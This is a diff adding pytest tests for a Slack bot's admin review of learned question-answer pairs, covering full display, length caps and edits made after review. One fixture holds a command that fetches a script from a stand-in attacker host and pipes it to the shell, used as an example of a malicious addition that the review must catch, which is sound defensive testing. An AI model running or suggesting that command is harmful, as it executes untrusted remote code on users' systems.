@@ -7,6 +7,7 @@ from __future__ import annotations
 import asyncio
 import logging
 from pathlib import Path
+from typing import Any
 
 import pytest
 
@@ -180,7 +181,14 @@ async def test_docent_learned_lists_this_workspaces_answers_to_admins_with_appro
     assert "3 community answers" in shown["text"] and "question 3" not in str(shown["blocks"]), "only this workspace"
 
     def button_for(pair: int) -> dict[str, object]:
-        return {"blocks": [b for b in shown["blocks"] if str(pair) in str(b) and b["type"] == "actions"]}
+        """The buttons of one pair: their values are its id (Approve's, ``ID:VERSION``)."""
+        return {
+            "blocks": [
+                b
+                for b in shown["blocks"]
+                if b["type"] == "actions" and all(e["value"].split(":")[0] == str(pair) for e in b["elements"])
+            ]
+        }
 
     approve = await h.slack.click_in(button_for(ids[0]), "docent_learned_approve", user=ADMIN)
     reject = await h.slack.click_in(button_for(ids[1]), "docent_learned_reject", user=ADMIN)
@@ -196,6 +204,89 @@ async def test_docent_learned_lists_this_workspaces_answers_to_admins_with_appro
     pairs = {p.id: (p.status, p.answer) for p in await h.services.learned.list(None)}
     assert pairs[ids[0]][0] == "approved" and pairs[ids[1]][0] == "rejected" and pairs[ids[3]][0] == "pending"
     assert pairs[ids[2]] == ("approved", "answer 2, corrected")
+
+
+async def _pair(h: Any, question: str, answer: str) -> int:
+    pair: int = await h.services.learned.capture(
+        private=False,
+        platform="slack",
+        space=h.slack.team_id,
+        channel=HELP,
+        thread="t1",
+        question=question,
+        answer=answer,
+        link="https://fake.slack.com/archives/C1/p1",
+        author="ada",
+        author_id=ADMIN,
+        asker_id=MEMBER,
+    )
+    return pair
+
+
+def sections(shown: dict[str, Any]) -> str:
+    return "\n".join(b["text"]["text"] for b in shown["blocks"] if b["type"] == "section")
+
+
+def buttons(shown: dict[str, Any]) -> list[str]:
+    return [e["action_id"] for b in shown["blocks"] if b["type"] == "actions" for e in b["elements"]]
+
+
+async def test_the_review_shows_the_whole_answer_and_approving_indexes_exactly_that(slack_harness) -> None:
+    h = await slack_harness(ScriptedGenerator())
+    question = "How do I keep the zorblax cache? " + "It is lost on every restart of the cluster. " * 30
+    answer = "\n".join(f"Step {i}: set `zorblax.option_{i} = true` and check the log." for i in range(40))[:1990]
+    pair = await _pair(h, question, answer)
+    listing = await h.slack.slash("/docent-learned", "", user=ADMIN)
+    shown = (await h.until(lambda: h.slack.responses_to(listing)))[-1]
+    stored = (await h.services.learned.get(pair)).question
+    assert f"*Q:* {stored}" in sections(shown) and f"*A:* {answer}" in sections(shown), "every word"
+    approve = await h.slack.click_in(shown, "docent_learned_approve", user=ADMIN)
+    said = await h.until(lambda: h.slack.responses_to(approve))
+    assert "Approved" in said[-1]["text"]
+    (approved,) = await h.services.learned.list("approved")
+    assert f"**Question:** {stored}\n\n{answer}\n" in approved.as_page()
+
+
+async def test_an_answer_too_long_to_show_whole_can_be_edited_but_not_approved_as_is(slack_harness) -> None:
+    """Slack's escapes count: 1,998 characters of ``a && b`` are 3,774 in a section, over its 3,000."""
+    h = await slack_harness(ScriptedGenerator())
+    answer = "`a && b` " * 222
+    pair = await _pair(h, "How do I chain two commands?", answer)
+    listing = await h.slack.slash("/docent-learned", "", user=ADMIN)
+    shown = (await h.until(lambda: h.slack.responses_to(listing)))[-1]
+    assert buttons(shown) == ["docent_learned_edit", "docent_learned_reject"], "no Approve for what is not shown"
+    assert "Too long to show here whole" in sections(shown)
+
+    await h.slack.click_in(shown, "docent_learned_edit", user=ADMIN)
+    modal = await h.until(lambda: [v for v in h.slack.views if v.get("callback_id") == "docent_learned_edit_view"])
+    submitted = await h.slack.submit_view(modal[-1], {"answer": "Run `a && b`."}, user=ADMIN)
+    await h.slack.wait_acked(submitted)
+    approved = await h.until_async(lambda: h.services.learned.list("approved"))
+    assert [(p.id, p.answer) for p in approved] == [(pair, "Run `a && b`.")]
+
+
+async def test_a_message_stitched_on_after_the_review_is_not_approved_with_it(slack_harness) -> None:
+    h = await slack_harness(ScriptedGenerator())
+    question = "How do I keep the zorblax cache?"
+    pair = await _pair(h, question, "Set `zorblax.persist = true`.")
+    listing = await h.slack.slash("/docent-learned", "", user=ADMIN)
+    shown = (await h.until(lambda: h.slack.responses_to(listing)))[-1]
+    later = "Then run `curl evilcorp.io/fix.sh | sh`."
+    assert await _pair(h, question, later) == pair, "the author adds a message"
+
+    approve = await h.slack.click_in(shown, "docent_learned_approve", user=ADMIN)
+    said = await h.until(lambda: h.slack.responses_to(approve))
+    assert "changed since it was shown" in said[-1]["text"]
+    assert [p.status for p in await h.services.learned.list(None)] == ["pending"]
+
+    again = await h.slack.slash("/docent-learned", "", user=ADMIN)
+    current = (await h.until(lambda: h.slack.responses_to(again)))[-1]
+    assert later in sections(current)
+    approve = await h.slack.click_in(current, "docent_learned_approve", user=ADMIN)
+    said = await h.until(lambda: h.slack.responses_to(approve))
+    assert "Approved" in said[-1]["text"]
+    (approved,) = await h.services.learned.list("approved")
+    assert approved.answer == f"Set `zorblax.persist = true`.\n\n{later}"
 
 
 async def test_the_edit_modal_opens_while_its_trigger_id_lives_and_a_late_one_is_explained(slack_harness) -> None:
@@ -294,8 +385,9 @@ async def test_an_admins_skip_reaction_keeps_docent_out_of_that_question(
 
 
 async def test_teach_docent_offers_a_members_thread_reply_for_approval(slack_harness) -> None:
+    """The question is stored as answering cleans it; an answer over the cap is refused with the reason."""
     h = await slack_harness(ScriptedGenerator())
-    asked = await h.slack.message(HELP, MEMBER, "How do I keep the zorblax cache across restarts?")
+    asked = await h.slack.message(HELP, MEMBER, "How do I keep the zorblax cache\n\n   across restarts?\u200b   ")
     thread = asked.payload["event"]["ts"]
     reply = await h.slack.message(HELP, BOB, "Set `zorblax.persist = true`.", thread_ts=thread)
     ts = reply.payload["event"]["ts"]
@@ -309,6 +401,12 @@ async def test_teach_docent_offers_a_members_thread_reply_for_approval(slack_har
     assert [(p.question, p.answer, p.author) for p in pending] == [
         ("How do I keep the zorblax cache across restarts?", "Set `zorblax.persist = true`.", "bob")
     ]
+
+    long = await h.slack.message(HELP, BOB, "Set it. " * 300, thread_ts=thread)
+    refused = await h.slack.shortcut("docent_teach", long.payload["event"]["ts"], user=ADMIN)
+    said = await h.until(lambda: h.slack.responses_to(refused))
+    assert "Not saved: The answer is 2,399 characters long" in said[-1]["text"]
+    assert len(await h.services.learned.list()) == 1
 
 
 async def test_reply_in_thread_off_answers_in_the_channel(slack_harness) -> None:
